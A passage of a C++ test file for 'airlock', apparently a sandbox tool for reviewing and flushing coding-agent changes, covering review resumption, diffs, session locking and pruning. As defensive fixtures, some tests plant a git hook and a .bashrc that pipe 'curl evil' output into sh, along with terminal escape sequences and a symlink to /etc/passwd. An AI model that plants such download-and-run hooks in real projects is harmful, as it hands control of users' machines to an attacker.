// `airlock snapshot` + `airlock review -s SESSION` as a user runs them: the
// real binary, a private XDG_STATE_HOME, no VM. A run's session is mimicked
// by what `airlock run` leaves: snapshot, manifest, workspace record and the
// guest's changes.tar.

#include <fcntl.h>
#include <pty.h>
#include <poll.h>
#include <signal.h>
#include <sys/file.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <climits>
#include <filesystem>
#include <map>
#include <set>
#include <sstream>

#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include "common/fd.h"
#include "common/sha256.h"

#include "airlock_process.h"
#include "session/session.h"
#include "test_util.h"
#include "workspace/changeset.h"
#include "workspace/diff.h"
#include "workspace/flush.h"
#include "workspace/manifest.h"
#include "workspace/review.h"

namespace airlock::test {
namespace {

namespace fs = std::filesystem;
namespace ws = airlock::workspace;
using ws::test::makeTar;
using ws::test::readAll;
using ws::test::TarEntry;
using ws::test::writeFile;

constexpr const char* kId = "20260101-120000-abcd";

/// What a run under a pty left behind: its exit code and what each stream got.
struct PtyResult {
  int exitCode = -1;
  std::string terminal, out, err;
  size_t prompts = 0;
};

class SessionReview : public ::testing::Test {
 protected:
  void SetUp() override {
    root = fs::canonical(dir.path()).string();
    workspace = root + "/ws";
    elsewhere = root + "/elsewhere";
    xdg = root + "/xdg";
    session = xdg + "/airlock/sessions/" + kId;
    fs::create_directories(workspace);
    fs::create_directories(elsewhere);
    fs::create_directories(xdg + "/airlock/sessions");
    env = {{"XDG_STATE_HOME", xdg}, {"HOME", root}, {"PAGER", "cat"}};
    writeFile(workspace + "/file.txt", "original\n");
  }

  /// `airlock args...` run from `cwd`.
  ProcessResult airlock(const std::vector<std::string>& args, const std::string& cwd) {
    char old[PATH_MAX];
    EXPECT_TRUE(::getcwd(old, sizeof old));
    EXPECT_EQ(::chdir(cwd.c_str()), 0);
    auto r = runAirlock(args, "", env, 60);
    EXPECT_EQ(::chdir(old), 0);
    return r;
  }

  /// Snapshots the workspace into the run-style session and leaves `changes`
  /// as its changes.tar, as `airlock run` does before the review.
  void runLeftChanges(const std::vector<TarEntry>& changes) {
    auto r = airlock({"snapshot", "-w", workspace, "-s", session}, elsewhere);
    ASSERT_EQ(r.exitCode, 0) << r.err;
    writeFile(session + "/changes.tar", makeTar(changes), 0600);
  }

  /// Runs `airlock args...` from `elsewhere` with stdin /dev/null, stdout and
  /// stderr pipes and a pty as its controlling terminal (or none at all when
  /// `withTerminal` is false). Each "accept?" prompt on the terminal is
  /// answered with the next of `answers`; when they run out, `killWith` is
  /// sent instead (0: nothing).
  PtyResult inPty(const std::vector<std::string>& args, const std::vector<std::string>& answers, int killWith = 0,
                  bool withTerminal = true) {
    PtyResult res;
    int master = -1, slave = -1;
    if (::openpty(&master, &slave, nullptr, nullptr, nullptr) != 0) return res;
    int out[2], err[2];
    if (::pipe(out) != 0 || ::pipe(err) != 0) return res;
    std::vector<std::string> storage = {airlockBinary()};
    storage.insert(storage.end(), args.begin(), args.end());
    pid_t pid = ::fork();
    if (pid == 0) {
      ::setsid();
      if (withTerminal) ::ioctl(slave, TIOCSCTTY, 0);
      int devnull = ::open("/dev/null", O_RDONLY);
      ::dup2(devnull, 0);
      ::dup2(out[1], 1);
      ::dup2(err[1], 2);
      for (int fd : {master, slave, out[0], out[1], err[0], err[1], devnull}) ::close(fd);
      for (const auto& [k, v] : env) ::setenv(k.c_str(), v.c_str(), 1);
      if (::chdir(elsewhere.c_str()) != 0) ::_exit(126);
      std::vector<char*> argv;
      for (auto& s : storage) argv.push_back(s.data());
      argv.push_back(nullptr);
      ::execv(argv[0], argv.data());
      ::_exit(127);
    }
    ::close(out[1]);  // the slave stays open here until the end: no hangup before airlock opens /dev/tty
    ::close(err[1]);
    auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(60);
    int fds[3] = {master, out[0], err[0]};
    std::string* sinks[3] = {&res.terminal, &res.out, &res.err};
    size_t seen = 0;
    int open = 2;  // the pipes; the master reads EIO only when no one holds the slave
    while (open > 0 && std::chrono::steady_clock::now() < deadline) {
      pollfd p[3];
      for (int i = 0; i < 3; ++i) p[i] = {fds[i], POLLIN, 0};
      if (::poll(p, 3, 1000) <= 0) continue;
      for (int i = 0; i < 3; ++i) {
        if (fds[i] < 0 || !p[i].revents) continue;
        char buf[4096];
        ssize_t n = ::read(fds[i], buf, sizeof buf);
        if (n <= 0) {
          if (i > 0) --open;
          ::close(fds[i]);
          fds[i] = -1;
          continue;
        }
        sinks[i]->append(buf, static_cast<size_t>(n));
      }
      size_t at;
      while ((at = res.terminal.find("accept?", seen)) != std::string::npos) {
        seen = at + 7;
        if (res.prompts < answers.size()) {
          std::string line = answers[res.prompts] + "\n";
          (void)!::write(master, line.data(), line.size());
        } else if (killWith) {
          ::kill(pid, killWith);
        }
        ++res.prompts;
      }
    }
    for (int fd : fds)
      if (fd >= 0) ::close(fd);
    int status = 0;
    if (std::chrono::steady_clock::now() >= deadline) ::kill(pid, SIGKILL);
    ::waitpid(pid, &status, 0);
    ::close(slave);
    res.exitCode = WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
    return res;
  }

  /// The review-XXXXXX staging directories left in the session.
  std::vector<std::string> stagingDirs() {
    std::vector<std::string> out;
    for (const auto& e : fs::directory_iterator(session))
      if (e.path().filename().string().starts_with("review-")) out.push_back(e.path().string());
    return out;
  }

  TempDir dir = ws::test::scratch();
  std::string root, workspace, elsewhere, xdg, session;
  std::map<std::string, std::string> env;
};

/// The last line of `text` ("" when empty).
std::string lastLine(std::string text) {
  while (!text.empty() && text.back() == '\n') text.pop_back();
  auto nl = text.rfind('\n');
  return nl == std::string::npos ? text : text.substr(nl + 1);
}

/// Splits a command line on spaces (the resume command has no quoting).
std::vector<std::string> words(const std::string& line) {
  std::vector<std::string> out;
  std::istringstream in(line);
  for (std::string w; in >> w;) out.push_back(w);
  return out;
}

// Item 5: the session's pending changes go to the session's workspace, never
// to the current directory, and the printed resume command works anywhere.
TEST_F(SessionReview, ResumeCommandFlushesIntoTheSessionWorkspaceFromAnyDirectory) {
  runLeftChanges({{"new.txt", 'f', "agent\n"}, {"passwd", 'l', "", "/etc/passwd"}});
  auto first = airlock({"review", "-s", kId, "-c", session + "/changes.tar", "--review=none"}, elsewhere);
  ASSERT_EQ(first.exitCode, 70) << first.err;
  std::string hint = lastLine(first.err);
  EXPECT_EQ(hint, std::string("airlock: 2 changes pending; review them with: airlock review -s ") + kId);
  auto cmd = words(hint.substr(hint.find("airlock review")));
  ASSERT_EQ(cmd.size(), 4u);
  std::vector<std::string> args(cmd.begin() + 1, cmd.end());
  args.push_back("--review=all");
  fs::create_directories(root + "/unrelated");
  auto second = airlock(args, root + "/unrelated");
  ASSERT_EQ(second.exitCode, 0) << second.err;
  EXPECT_EQ(readAll(workspace + "/new.txt"), "agent\n");
  EXPECT_EQ(fs::read_symlink(workspace + "/passwd").string(), "/etc/passwd");
  EXPECT_TRUE(fs::is_empty(root + "/unrelated")) << "flushed into the current directory";
  EXPECT_TRUE(fs::is_empty(elsewhere));
}

// An agent that ran `git status` (which refreshes .git/index) or committed
// leaves git metadata: it stays in the session, never flushed, but a run whose
// other changes all landed is not "pending" (exit 0, no resume hint).
TEST_F(SessionReview, GitMetadataStaysInTheSessionWithoutMakingTheRunPending) {
  writeFile(workspace + "/.git/index", "host index\n");
  runLeftChanges({{".git", 'd', "", "", 0755}, {".git/index", 'f', "agent index\n"}, {"new.txt", 'f', "agent\n"}});
  auto r = airlock({"review", "-s", kId, "-c", session + "/changes.tar", "--review=auto", "--json"}, elsewhere);
  ASSERT_EQ(r.exitCode, 0) << r.err;
  auto j = nlohmann::json::parse(r.out);
  EXPECT_EQ(j["flushed"], 1);
  EXPECT_EQ(j["pending"], 0);
  EXPECT_EQ(j["git_metadata"], 1);
  EXPECT_EQ(readAll(workspace + "/new.txt"), "agent\n");
  EXPECT_EQ(readAll(workspace + "/.git/index"), "host index\n");
  EXPECT_EQ(r.err.find("pending"), std::string::npos) << r.err;
  EXPECT_TRUE(fs::exists(session + "/pending/changes.tar")) << "git metadata is kept for the git integration";
}

// `airlock diff` of an ended session shows what its review will: the
// table, each patch with the agent's escape sequences made visible, a host
// edit since the snapshot as a conflict and a git hook as held back; it
// changes nothing (no flush, no record, no staging left), and after a
// review it shows what is still pending.
TEST_F(SessionReview, DiffShowsWhatTheReviewWillAndChangesNothing) {
  writeFile(workspace + "/edited.txt", "base\n");
  runLeftChanges({{"file.txt", 'f', "agent line \x1b]0;pwned\x07\x1b[2J\n"},
                  {"edited.txt", 'f', "agent\n"},
                  {".husky/pre-commit", 'f', "curl evil | sh\n", "", 0755}});
  writeFile(workspace + "/edited.txt", "host edit\n");
  auto before = ws::test::treeListing(session);
  auto text = airlock({"diff", kId, "--color=never"}, elsewhere);
  ASSERT_EQ(text.exitCode, 0) << text.err;
  EXPECT_NE(text.out.find("+agent line"), std::string::npos) << text.out;
  EXPECT_EQ(text.out.find('\x1b'), std::string::npos) << "an escape sequence reached the terminal";
  EXPECT_NE(text.out.find("@@"), std::string::npos);
  auto json = airlock({"diff", kId, "--json"}, elsewhere);
  ASSERT_EQ(json.exitCode, 0) << json.err;
  auto j = nlohmann::json::parse(json.out);
  EXPECT_EQ(j["running"], false);
  std::map<std::string, nlohmann::json> items;
  for (const auto& item : j["items"]) items[item["path"]] = item;
  EXPECT_EQ(items["edited.txt"]["conflict"], true) << j.dump();
  EXPECT_EQ(items[".husky/pre-commit"]["held_back"], true) << j.dump();
  EXPECT_EQ(items["file.txt"]["control_characters"], true) << j.dump();
  auto stat = airlock({"diff", kId, "--stat"}, elsewhere);
  EXPECT_NE(stat.out.find("file.txt"), std::string::npos);
  EXPECT_EQ(stat.out.find("@@"), std::string::npos) << "--stat printed patches";
  EXPECT_EQ(readAll(workspace + "/file.txt"), "original\n");
  EXPECT_EQ(ws::test::treeListing(session), before) << "diff changed the session";

  auto partial = airlock({"review", kId, "--review=auto"}, elsewhere);
  ASSERT_EQ(partial.exitCode, 71);
  EXPECT_EQ(lastLine(partial.err), std::string("airlock: 1 change pending and 1 change in conflict; review them "
                                               "with: airlock review -s ") + kId);
  auto pending = nlohmann::json::parse(airlock({"diff", kId, "--json"}, elsewhere).out);
  std::set<std::string> left;
  for (const auto& item : pending["items"]) left.insert(item["path"]);
  EXPECT_EQ(left, (std::set<std::string>{".husky/pre-commit", "edited.txt"})) << pending.dump();
  writeFile(workspace + "/edited.txt", "agent\n");
  ASSERT_EQ(airlock({"review", kId, "--review=all"}, elsewhere).exitCode, 0);
  auto none = airlock({"diff", kId}, elsewhere);
  EXPECT_EQ(none.exitCode, 0) << none.err;
  EXPECT_EQ(none.out, std::string("no changes in session ") + kId + " to review\n");
  EXPECT_EQ(airlock({"diff", "no-such-session"}, elsewhere).exitCode, 64);
}

// Attack: a change set flushed a look-alike session directory into the
// project (its `workspace` file names a victim directory); `review -s ID`
// typed in the project must not take it for session ID: a bare id is looked
// up only in the sessions dir.
TEST_F(SessionReview, BareIdNeverNamesADirectoryOfTheCurrentOne) {
  std::string victim = root + "/victim";
  fs::create_directories(victim);
  std::string fake = workspace + "/20261201-230000-beef";
  fs::create_directories(fake + "/pending");
  writeFile(fake + "/workspace", victim + "\n");
  writeFile(fake + "/pending/changes.tar", makeTar({{".bashrc", 'f', "curl evil.example | sh\n"}}), 0600);
  auto r = airlock({"review", "-s", "20261201-230000-beef", "--review=auto"}, workspace);
  EXPECT_EQ(r.exitCode, 64) << r.err;
  EXPECT_NE(r.err.find("no session '20261201-230000-beef'"), std::string::npos) << r.err;
  EXPECT_TRUE(fs::is_empty(victim)) << "flushed into the directory a look-alike session named";
}

// The built-in agent `shell` shares its name with the verb `airlock shell
// NAME`: the verb wins (the agent is `airlock run shell`), so `airlock shell
// job` never starts a session of the shell agent with "job" as its argument.
TEST_F(SessionReview, AVerbWinsOverAnAgentOfTheSameName) {
  auto r = airlock({"shell", "no-such-session"}, workspace);
  EXPECT_EQ(r.exitCode, 64) << r.err;
  EXPECT_NE(r.err.find("no session 'no-such-session'"), std::string::npos) << r.err;
  EXPECT_EQ(r.err.find("airlock run"), std::string::npos) << r.err;
  EXPECT_EQ(r.err.find("snapshot"), std::string::npos) << "a session of the shell agent started: " << r.err;
  EXPECT_EQ(r.err.find("image for shell"), std::string::npos) << r.err;
}

// Found by a breaker: `review -s ./` took the project for a session and
// deleted its pending/ and review-* directories.
TEST_F(SessionReview, ADirectoryThatIsNoSessionIsRefusedAndLeftAlone) {
  fs::create_directories(workspace + "/pending");
  fs::create_directories(workspace + "/review-notes");
  writeFile(workspace + "/pending/todo.txt", "mine\n");
  writeFile(root + "/empty.tar", makeTar({}));
  auto r = airlock({"review", "-s", "./", "-c", root + "/empty.tar", "--review=auto"}, workspace);
  EXPECT_EQ(r.exitCode, 64) << r.err;
  EXPECT_NE(r.err.find("is not an airlock session"), std::string::npos) << r.err;
  EXPECT_EQ(readAll(workspace + "/pending/todo.txt"), "mine\n");
  EXPECT_TRUE(fs::exists(workspace + "/review-notes"));
  EXPECT_FALSE(fs::exists(workspace + "/reviewed"));
  EXPECT_FALSE(fs::exists(workspace + "/session.log"));
}

// Found by a breaker: a second review of a session while the first waited at
// its prompt deleted the first one's staging and pending changes, and
// `system prune` removed a session under review (or one whose flush was
// interrupted in its staging directory).
TEST_F(SessionReview, ASessionUnderReviewIsRefusedToASecondReviewAndKeptByPrune) {
  runLeftChanges({{"file.txt", 'f', "agent\n"}});
  auto held = session::lockForReview(session);  // a review of it, waiting at its prompt
  ASSERT_TRUE(held) << held.error().message;
  auto second = airlock({"review", "-s", kId, "--review=auto"}, elsewhere);
  EXPECT_EQ(second.exitCode, 73) << second.err;
  EXPECT_NE(second.err.find("being reviewed by another airlock process"), std::string::npos) << second.err;
  EXPECT_EQ(readAll(workspace + "/file.txt"), "original\n");
  EXPECT_TRUE(fs::exists(session + "/changes.tar"));
  auto prune = airlock({"system", "prune", "--all", "-f"}, elsewhere);
  EXPECT_EQ(prune.exitCode, 0) << prune.err;
  EXPECT_TRUE(fs::exists(session + "/changes.tar")) << "prune removed a session under review";
  held->reset();
  // An interrupted flush lives in the review's staging directory: pending.
  writeFile(session + "/review-abc123/flush/journal", "airlock flush journal\n");
  writeFile(session + "/reviewed", "review (auto): 1 flushed\n");
  EXPECT_TRUE(session::sessionHasPending(session));
}

// Found by a breaker: kept changes that replace a directory by a file or a
// symlink were written with whiteouts below that file, and resuming them
// failed with 74 ("lies below 'd', which is a file").
TEST_F(SessionReview, KeptChangesThatReplaceADirectoryResume) {
  writeFile(workspace + "/d/x", "x\n");
  writeFile(workspace + "/e/sub/y", "y\n");
  runLeftChanges({{"d", 'f', "now a file\n"}, {"e/sub", 'l', "", "../d", 0777}});
  auto kept = airlock({"review", "-s", kId, "--review=none"}, elsewhere);
  EXPECT_EQ(kept.exitCode, 70) << kept.err;
  EXPECT_TRUE(fs::is_directory(workspace + "/d"));
  auto resumed = airlock({"review", "-s", kId, "--review=all"}, elsewhere);
  EXPECT_EQ(resumed.exitCode, 0) << resumed.err;
  EXPECT_EQ(readAll(workspace + "/d"), "now a file\n");
  EXPECT_TRUE(fs::is_symlink(workspace + "/e/sub"));
}

// Found by a breaker: changes kept by a review without a session
// (review-XXXXXX) overwrote edits made on the host before they were resumed:
// that session kept no baseline.
TEST_F(SessionReview, ResumingAReviewWithoutSnapshotDetectsHostEditsMadeInBetween) {
  writeFile(root + "/r.tar", makeTar({{"file.txt", 'f', "agent\n"}}));
  auto kept = airlock({"review", "-c", root + "/r.tar", "--review=none"}, workspace);
  EXPECT_EQ(kept.exitCode, 70) << kept.err;
  const std::string resume = "airlock review -s ";
  auto at = kept.err.rfind(resume);
  ASSERT_NE(at, std::string::npos) << kept.err;
  std::string id = kept.err.substr(at + resume.size());
  id = id.substr(0, id.find('\n'));
  writeFile(workspace + "/file.txt", "mine\n");
  auto resumed = airlock({"review", "-s", id, "--review=auto"}, elsewhere);
  EXPECT_EQ(resumed.exitCode, 71) << resumed.err;
  EXPECT_EQ(readAll(workspace + "/file.txt"), "mine\n") << "the host edit was overwritten";
}

// The printed resume command pastes into a shell as one word, whatever the
// session directory is called.
TEST(ResumeCommand, QuotesTheSessionForTheShell) {
  const std::string state = "/nonexistent/airlock-state";
  EXPECT_EQ(session::resumeCommand(state, "/tmp/plain-dir_1"), "airlock review -s /tmp/plain-dir_1");
  EXPECT_EQ(session::resumeCommand(state, "/tmp/sp ace"), "airlock review -s '/tmp/sp ace'");
  EXPECT_EQ(session::resumeCommand(state, "/tmp/it's"), "airlock review -s '/tmp/it'\\''s'");
  EXPECT_EQ(session::resumeCommand(state, "/tmp/$(x)"), "airlock review -s '/tmp/$(x)'");
}

// Item 5: a -w naming another directory than the session's is refused.
TEST_F(SessionReview, MismatchingWorkspaceIsRefused) {
  runLeftChanges({{"new.txt", 'f', "agent\n"}});
  auto r = airlock({"review", "-s", kId, "-w", elsewhere, "--review=all"}, root);
  EXPECT_EQ(r.exitCode, 64) << r.err;
  EXPECT_NE(r.err.find(elsewhere), std::string::npos) << r.err;
  EXPECT_NE(r.err.find(workspace), std::string::npos) << r.err;
  EXPECT_FALSE(fs::exists(workspace + "/new.txt"));
  EXPECT_TRUE(fs::is_empty(elsewhere));
}

// Item 8 + nit: a run killed before its review finished left only changes.tar;
// `review -s ID` alone reviews it, records the outcome in session.log, and a
// second one finds nothing pending.
TEST_F(SessionReview, ChangeSetOfAnUnfinishedReviewIsResumedWithoutChangeSetFlag) {
  runLeftChanges({{"new.txt", 'f', "agent\n"}});
  auto r = airlock({"review", "-s", kId, "--review=all"}, elsewhere);
  ASSERT_EQ(r.exitCode, 0) << r.err;
  EXPECT_EQ(readAll(workspace + "/new.txt"), "agent\n");
  EXPECT_NE(readAll(session + "/session.log").find("review (all): 1 flushed, 0 pending, 0 in conflict"),
            std::string::npos)
      << readAll(session + "/session.log");
  auto again = airlock({"review", "-s", kId}, elsewhere);
  EXPECT_EQ(again.exitCode, 0) << again.err;
  EXPECT_NE(again.out.find("nothing pending"), std::string::npos) << again.out;
}

// Item 19: interactive review with stdin /dev/null and stdout a pipe reads the
// answers from the controlling terminal and prompts there.
TEST_F(SessionReview, InteractiveReviewUsesTheControllingTerminalWhenStdioIsRedirected) {
  runLeftChanges({{"new.txt", 'f', "agent\n"}, {"other.txt", 'f', "rejected\n"}});
  auto r = inPty({"review", "-s", kId}, {"a", "r"});
  ASSERT_EQ(r.exitCode, 70) << r.err << r.terminal;
  EXPECT_EQ(r.prompts, 2u) << r.terminal;
  EXPECT_EQ(r.out.find("accept?"), std::string::npos) << "prompts belong on the terminal, not in the pipe";
  EXPECT_NE(r.out.find("flushed 1 change(s)"), std::string::npos) << r.out;
  EXPECT_EQ(readAll(workspace + "/new.txt"), "agent\n");
  EXPECT_FALSE(fs::exists(workspace + "/other.txt"));
  EXPECT_EQ(lastLine(r.err), std::string("airlock: 1 change pending; review it with: airlock review -s ") + kId);
}

// Item 19: no controlling terminal at all: refused up front, naming the fix.
TEST_F(SessionReview, InteractiveReviewWithoutAnyTerminalIsRefused) {
  runLeftChanges({{"new.txt", 'f', "agent\n"}});
  auto r = inPty({"review", "-s", kId}, {}, 0, false);
  EXPECT_EQ(r.exitCode, 64) << r.err;
  EXPECT_NE(r.err.find("--review=auto"), std::string::npos) << r.err;
  EXPECT_FALSE(fs::exists(workspace + "/new.txt"));
}

// Item 8 (a real process): the terminal closes at the review prompt (SIGHUP);
// `review -s ID` alone resumes, and the killed review's staging is cleaned up.
TEST_F(SessionReview, ReviewKilledAtThePromptIsResumedAndLeavesNoStaging) {
  runLeftChanges({{"new.txt", 'f', "agent\n"}});
  auto killed = inPty({"review", "-s", kId}, {}, SIGHUP);
  ASSERT_EQ(killed.prompts, 1u) << killed.terminal << killed.err;
  EXPECT_EQ(killed.exitCode, 128 + SIGHUP);
  EXPECT_FALSE(fs::exists(workspace + "/new.txt"));
  auto r = airlock({"review", "-s", kId, "--review=all"}, elsewhere);
  ASSERT_EQ(r.exitCode, 0) << r.err;
  EXPECT_EQ(readAll(workspace + "/new.txt"), "agent\n");
  EXPECT_TRUE(stagingDirs().empty()) << stagingDirs()[0];
}

// Item 7: a flush killed mid-way (started with a relative session path, as
// `review -s ./dir` would) is completed by `review -s ID` alone, from another
// directory, without -c/--after, and its staging directory is removed.
TEST_F(SessionReview, InterruptedFlushIsCompletedByReviewSessionAlone) {
  runLeftChanges({{"a.txt", 'f', "a\n"}, {"b.txt", 'f', "b\n"}, {"c.txt", 'f', "c\n"}});
  std::string staging = std::string("review-crash01");
  pid_t pid = ::fork();
  ASSERT_GE(pid, 0);
  if (pid == 0) {
    if (::chdir(session.c_str()) != 0 || ::mkdir(staging.c_str(), 0700) != 0) ::_exit(3);
    auto baseline = ws::Manifest::load("manifest");
    if (!baseline) ::_exit(4);
    ws::IgnoreRules rules;
    Fd tar(::open("changes.tar", O_RDONLY | O_CLOEXEC));
    auto cs = ws::ChangeSet::fromTar(tar.get(), staging + "/staged");
    if (!cs) ::_exit(5);
    Fd wsFd(::open(workspace.c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC));
    ws::ThreeWayDiff diff(*baseline, *cs, rules, wsFd.get(), -1, 1 << 20);
    auto d = diff.run();
    if (!d || d->items.size() != 3) ::_exit(6);
    std::vector<const ws::DiffItem*> all;
    for (const auto& it : d->items) all.push_back(&it);
    ws::FlushHooks hooks;
    hooks.afterStep = [](size_t n) {
      if (n == 1) ::raise(SIGKILL);
    };
    (void)ws::flush(all, ws::FlushContext{workspace, staging, xdg + "/airlock", hooks});
    ::_exit(7);
  }
  int status = 0;
  ::waitpid(pid, &status, 0);
  ASSERT_TRUE(WIFSIGNALED(status)) << "the flush must have been killed mid-way (exit " << WEXITSTATUS(status) << ")";
  ASSERT_FALSE(stagingDirs().empty());
  auto r = airlock({"review", "-s", kId, "--review=all"}, elsewhere);
  ASSERT_EQ(r.exitCode, 0) << r.err;
  EXPECT_NE(r.err.find("interrupted flush"), std::string::npos) << r.err;
  EXPECT_EQ(readAll(workspace + "/a.txt"), "a\n");
  EXPECT_EQ(readAll(workspace + "/b.txt"), "b\n");
  EXPECT_EQ(readAll(workspace + "/c.txt"), "c\n");
  EXPECT_TRUE(stagingDirs().empty()) << stagingDirs()[0];
  auto later = airlock({"review", "-s", kId}, elsewhere);
  EXPECT_EQ(later.exitCode, 0) << later.err;
}

// Item 9: user errors of `airlock snapshot` get a user's exit code and a
// message naming the path and the fix; a FIFO .airlockignore does not hang.
TEST_F(SessionReview, SnapshotUserErrorsNameThePathAndTheFix) {
  auto first = airlock({"snapshot", "-w", workspace, "-s", session}, elsewhere);
  ASSERT_EQ(first.exitCode, 0) << first.err;
  auto again = airlock({"snapshot", "-w", workspace, "-s", session}, elsewhere);
  EXPECT_EQ(again.exitCode, 64) << again.err;
  EXPECT_NE(again.err.find(session), std::string::npos) << again.err;
  EXPECT_NE(again.err.find("new directory"), std::string::npos) << again.err;

  writeFile(root + "/plainfile", "x");
  auto impossible = airlock({"snapshot", "-w", workspace, "-s", root + "/plainfile/sub"}, elsewhere);
  EXPECT_EQ(impossible.exitCode, 64) << impossible.err;
  EXPECT_NE(impossible.err.find(root + "/plainfile/sub"), std::string::npos) << impossible.err;

  // An existing empty directory of the user's becomes private; one of another
  // user (made 0777 in /tmp beforehand) or a symlink is refused.
  fs::create_directories(root + "/mine");
  ::chmod((root + "/mine").c_str(), 0777);
  auto mine = airlock({"snapshot", "-w", workspace, "-s", root + "/mine"}, elsewhere);
  EXPECT_EQ(mine.exitCode, 0) << mine.err;
  EXPECT_EQ(fs::status(root + "/mine").permissions(), fs::perms::owner_all);
  fs::create_directory_symlink(root + "/elsewhere", root + "/link");
  auto link = airlock({"snapshot", "-w", workspace, "-s", root + "/link"}, elsewhere);
  EXPECT_EQ(link.exitCode, 64) << link.err;
  if (::geteuid() == 0) {
    fs::create_directories(root + "/theirs");
    ASSERT_EQ(::chown((root + "/theirs").c_str(), 1001, 1001), 0);
    auto theirs = airlock({"snapshot", "-w", workspace, "-s", root + "/theirs"}, elsewhere);
    EXPECT_EQ(theirs.exitCode, 64) << theirs.err;
    EXPECT_NE(theirs.err.find("not a directory of yours"), std::string::npos) << theirs.err;
    EXPECT_FALSE(fs::exists(root + "/theirs/snapshot"));
  }

  ASSERT_EQ(::mkfifo((workspace + "/.airlockignore").c_str(), 0644), 0);
  auto fifo = airlock({"snapshot", "-w", workspace, "-s", root + "/s2"}, elsewhere);
  EXPECT_EQ(fifo.exitCode, 65) << fifo.err;  // -1 would mean it hung until the deadline
  EXPECT_NE(fifo.err.find(".airlockignore"), std::string::npos) << fifo.err;
  EXPECT_FALSE(fs::exists(root + "/s2")) << "a failed snapshot left its session directory";
}

// Item 18: `system df` sizes sessions (finished and pending) and caches;
// `system prune` removes finished sessions, dead sessions' snapshots and the
// rootfs erofs cache, never a running session or pending changes (unless
// --all); --dry-run removes nothing.
TEST_F(SessionReview, SystemDfAndPruneKeepRunningAndPendingSessions) {
  std::string sessions = xdg + "/airlock/sessions", cache = root + "/cache";
  env["AIRLOCK_CACHE_DIR"] = cache;
  auto makeSession = [&](const std::string& id, bool pending, bool snapshot) {
    std::string d = sessions + "/" + id;
    writeFile(d + "/workspace", workspace + "\n");
    writeFile(d + "/session.log", "log\n");
    writeFile(d + "/changes.tar", std::string(1000, 'x'));
    if (pending) writeFile(d + "/pending/changes.tar", std::string(2000, 'p'));
    else writeFile(d + "/reviewed", "review (auto): 1 flushed\n");
    if (snapshot) writeFile(d + "/snapshot/file.txt", std::string(4000, 's'));
    return d;
  };
  std::string finished = makeSession("20260101-000001-0001", false, false);
  std::string running = makeSession("20260101-000002-0002", false, true);
  std::string pending = makeSession("20260101-000003-0003", true, true);
  writeFile(cache + "/rootfs/0123.erofs", std::string(3000, 'e'));
  writeFile(cache + "/images/abcd.erofs", std::string(500, 'a'));
  writeFile(cache + "/images/base-abcd.tar", std::string(700, 'b'));
  writeFile(cache + "/npm/cache/_cacache/x", std::string(600, 'n'));
  writeFile(cache + "/npm/pkg@1.0.0.tgz", std::string(400, 'n'));
  writeFile(cache + "/downloads/linux-image.deb", std::string(800, 'k'));
  writeFile(cache + "/downloads/archives/" + std::string(64, 'a') + "-crush.tar.gz", std::string(300, 'c'));
  const std::string data = root + "/data";
  env["XDG_DATA_HOME"] = data;
  writeFile(data + "/airlock/state/claude-code/0123456789abcdef/home/.claude/history.jsonl", std::string(900, 'h'));
  // The running session's process holds its run lock, as Session::open does.
  Fd lock(::open((running + "/session.lock").c_str(), O_RDWR | O_CREAT, 0600));
  ASSERT_TRUE(lock);
  ASSERT_EQ(::flock(lock.get(), LOCK_EX), 0);

  auto df = airlock({"system", "df", "--json"}, elsewhere);
  ASSERT_EQ(df.exitCode, 0) << df.err;
  auto j = nlohmann::json::parse(df.out);
  std::map<std::string, nlohmann::json> byType;
  for (const auto& row : j) byType[row["type"]] = row;
  EXPECT_EQ(byType["sessions"]["count"], 2);
  EXPECT_EQ(byType["pending sessions"]["count"], 1);
  EXPECT_EQ(byType["pending sessions"]["bytes"], 1000 + 2000 + 4000 + 4 + workspace.size() + 1);
  EXPECT_EQ(byType["rootfs erofs cache"]["bytes"], 3000);
  EXPECT_EQ(byType["rootfs erofs cache"]["reclaimable_bytes"], 3000);
  EXPECT_EQ(byType["agent images"]["count"], 1);
  EXPECT_EQ(byType["agent images"]["bytes"], 500 + 700);
  EXPECT_EQ(byType["npm downloads"]["bytes"], 600 + 400);
  EXPECT_EQ(byType["kernel downloads"]["bytes"], 800);
  EXPECT_EQ(byType["release archives"]["bytes"], 300);
  EXPECT_EQ(byType["agent state"]["count"], 1);
  EXPECT_EQ(byType["agent state"]["bytes"], 900);

  auto dry = airlock({"system", "prune", "--dry-run"}, elsewhere);
  ASSERT_EQ(dry.exitCode, 0) << dry.err;
  EXPECT_NE(dry.out.find(finished), std::string::npos) << dry.out;
  EXPECT_NE(dry.out.find(pending + "/snapshot"), std::string::npos) << dry.out;
  EXPECT_EQ(dry.out.find(running), std::string::npos) << dry.out;
  EXPECT_TRUE(fs::exists(finished));
  EXPECT_TRUE(fs::exists(cache + "/rootfs/0123.erofs"));

  auto prune = airlock({"system", "prune"}, elsewhere);  // not a terminal: no confirmation
  ASSERT_EQ(prune.exitCode, 0) << prune.err;
  EXPECT_FALSE(fs::exists(finished));
  EXPECT_FALSE(fs::exists(pending + "/snapshot"));
  EXPECT_TRUE(fs::exists(pending + "/pending/changes.tar")) << "pending changes pruned without --all";
  EXPECT_TRUE(fs::exists(running + "/snapshot/file.txt")) << "a running session was pruned";
  EXPECT_FALSE(fs::exists(cache + "/rootfs/0123.erofs"));
  EXPECT_TRUE(fs::exists(cache + "/images/base-abcd.tar")) << "pruned without --all";
  EXPECT_TRUE(fs::exists(cache + "/npm/pkg@1.0.0.tgz")) << "pruned without --all";

  // --all: agent images, their base tarball and the downloads too, but not
  // the npm downloads while a build holds their lock.
  Fd npmLock(::open((cache + "/npm/.lock").c_str(), O_RDWR | O_CREAT, 0600));
  ASSERT_EQ(::flock(npmLock.get(), LOCK_EX), 0);
  auto all = airlock({"system", "prune", "--all", "-f"}, elsewhere);
  ASSERT_EQ(all.exitCode, 0) << all.err;
  EXPECT_FALSE(fs::exists(pending));
  EXPECT_FALSE(fs::exists(cache + "/images/abcd.erofs"));
  EXPECT_FALSE(fs::exists(cache + "/images/base-abcd.tar"));
  EXPECT_FALSE(fs::exists(cache + "/downloads/linux-image.deb"));
  EXPECT_FALSE(fs::exists(cache + "/downloads/archives/" + std::string(64, 'a') + "-crush.tar.gz"));
